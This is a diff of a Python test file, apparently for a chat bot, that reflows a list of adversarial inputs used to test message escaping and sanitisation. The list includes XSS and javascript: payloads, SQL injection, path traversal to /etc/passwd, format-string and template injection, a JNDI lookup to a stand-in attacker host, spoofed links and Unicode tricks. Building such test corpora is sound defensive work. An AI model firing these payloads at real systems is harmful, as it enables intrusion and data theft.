@@ -13,21 +13,26 @@ from random import Random
 
 ATTACKS = """
 @everyone|@here|<@100000000000000001>|<@!100000000000000001>|<@&100000000000000002>
-<#100000000000000003>|</ban:100000000000000004>|</onthisday:1>|<t:1700000000:R>|<:smile:1234567890>
-<a:wave:1234567890>|:smile:|:skull_crossbones:|<id:customize>|<https://evil.example/x>|https://evil.example
-http://evil.example/a?b=c|HTTPS://EVIL.EXAMPLE|[bank](https://evil.example)|[a](<https://evil.example>)
-[bank](https://evil.example "t")|discord.gg/abcdef|https://discord.gg/abcdef|discord.com/invite/abcdef
-**bold**|*it*|__under__|_it_|~~gone~~|`code`|``` fence ```|```py x```|||spoiler|||> quote|>>> all|# head
-## head|-# small|- list|* list|1. list|12) list|+ list|\\|\\\\|\\*|**|*|_|`|```
-@admin|@daybook_bot|@a_user_name|/ban|/start|/ban@other_bot|/stop now|#tag|#history2024|$USD|$AAPL
-evil.com|www.evil.com|evil.org/path|sub.evil.net|evil.com:8080/x|t.me/evil|https://t.me/evil|tg://user?id=1
-tg://resolve?domain=x|mailto:a@evil.com|a@evil.com|first.last@evil.co.uk|javascript:alert(1)|file:///etc/passwd
-ftp://evil.com|+1 202 555 0142|+442071838750|4111 1111 1111 1111|127.0.0.1|192.168.1.1:80/x|bücher.de|пример.рф
-<b>bold</b>|<i>|</b>|<a href="https://evil.example">x</a>|<script>alert(1)</script>|<tg-spoiler>x</tg-spoiler>
-<code>|&lt;b&gt;|&amp;|&#64;everyone|&|<|>|"|'|_*[]()~`>#+-=|{}.!|\u202eevil|\u2066x\u2069|\u200b@everyone
-@\u200beveryone|\ufeff# head|\u2060/ban|\u00ad@here|e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301|😀@everyone😀
-👩‍👩‍👧|🏴\U000e0067\U000e0062\U000e007f|％ｅｖｅｒｙｏｎｅ|＠everyone|ﬀ|İ|ß|نص عربي|עברית|ประวัติ|歴史|\u3000# x|\u2028# x
-NEAR(a b)|"unclosed|col:x|{title} : a|^a|a*|' OR 1=1 --|../../etc/passwd|%s%s%n|{0}|${x}|{{x}}|${jndi:ldap://evil.com}
+<#100000000000000003>|</ban:100000000000000004>|</onthisday:1>|<t:1700000000:R>
+<:smile:1234567890>|<a:wave:1234567890>|:smile:|:skull_crossbones:|<id:customize>
+<https://evil.example/x>|https://evil.example|http://evil.example/a?b=c
+HTTPS://EVIL.EXAMPLE|[bank](https://evil.example)|[a](<https://evil.example>)
+[bank](https://evil.example "t")|discord.gg/abcdef|https://discord.gg/abcdef
+discord.com/invite/abcdef|**bold**|*it*|__under__|_it_|~~gone~~|`code`|``` fence ```
+```py x```|||spoiler|||> quote|>>> all|# head|## head|-# small|- list|* list|1. list
+12) list|+ list|\\|\\\\|\\*|**|*|_|`|```|@admin|@daybook_bot|@a_user_name|/ban|/start
+/ban@other_bot|/stop now|#tag|#history2024|$USD|$AAPL|evil.com|www.evil.com
+evil.org/path|sub.evil.net|evil.com:8080/x|t.me/evil|https://t.me/evil|tg://user?id=1
+tg://resolve?domain=x|mailto:a@evil.com|a@evil.com|first.last@evil.co.uk
+javascript:alert(1)|file:///etc/passwd|ftp://evil.com|+1 202 555 0142|+442071838750
+4111 1111 1111 1111|127.0.0.1|192.168.1.1:80/x|bücher.de|пример.рф|<b>bold</b>|<i>|</b>
+<a href="https://evil.example">x</a>|<script>alert(1)</script>
+<tg-spoiler>x</tg-spoiler>|<code>|&lt;b&gt;|&amp;|&#64;everyone|&|<|>|"|'|_*[]()~`>#+-=
+{}.!|\u202eevil|\u2066x\u2069|\u200b@everyone|@\u200beveryone|\ufeff# head|\u2060/ban
+\u00ad@here|e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301|😀@everyone😀|👩‍👩‍👧
+🏴\U000e0067\U000e0062\U000e007f|％ｅｖｅｒｙｏｎｅ|＠everyone|ﬀ|İ|ß|نص عربي|עברית|ประวัติ|歴史
+\u3000# x|\u2028# x|NEAR(a b)|"unclosed|col:x|{title} : a|^a|a*|' OR 1=1 --
+../../etc/passwd|%s%s%n|{0}|${x}|{{x}}|${jndi:ldap://evil.com}
 """.strip()
 
 WORDS = "the on of 21 August 1940 who was Ada Veyl ship treaty in and born founded a".split()
